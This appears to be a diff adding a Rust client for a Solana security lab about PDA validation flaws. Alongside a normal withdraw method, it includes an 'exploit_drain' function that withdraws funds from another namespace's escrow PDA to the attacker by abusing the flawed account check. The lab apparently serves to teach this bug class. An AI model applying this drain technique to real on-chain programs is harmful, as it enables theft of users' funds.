@@ -0,0 +1,32 @@
+//! pda_issues: withdrawing from a user's PDA
+
+use anyhow::Result as AnyResult;
+use lab_instructions::pda_issues::withdraw_ix;
+use solana_program::pubkey::Pubkey;
+
+use crate::{Keypair, Signature, Signer};
+
+example_client!("pda_issues");
+
+impl Client {
+    /// `user` withdraws `amount` from `pda`, their data account, to
+    /// `recipient`
+    pub async fn withdraw(
+        &self,
+        user: &Keypair,
+        pda: Pubkey,
+        recipient: Pubkey,
+        amount: u64,
+    ) -> AnyResult<Signature> {
+        let withdraw = withdraw_ix(self.program_id(), user.pubkey(), pda, recipient, amount);
+        self.send(&[withdraw], &[user]).await
+    }
+
+    /// `amount` from `escrow`, a PDA from another namespace whose data
+    /// reads as the payer's, to the payer
+    pub async fn exploit_drain(&self, escrow: Pubkey, amount: u64) -> AnyResult<Signature> {
+        let attacker = self.payer().pubkey();
+        let withdraw = withdraw_ix(self.program_id(), attacker, escrow, attacker, amount);
+        self.send(&[withdraw], &[]).await
+    }
+}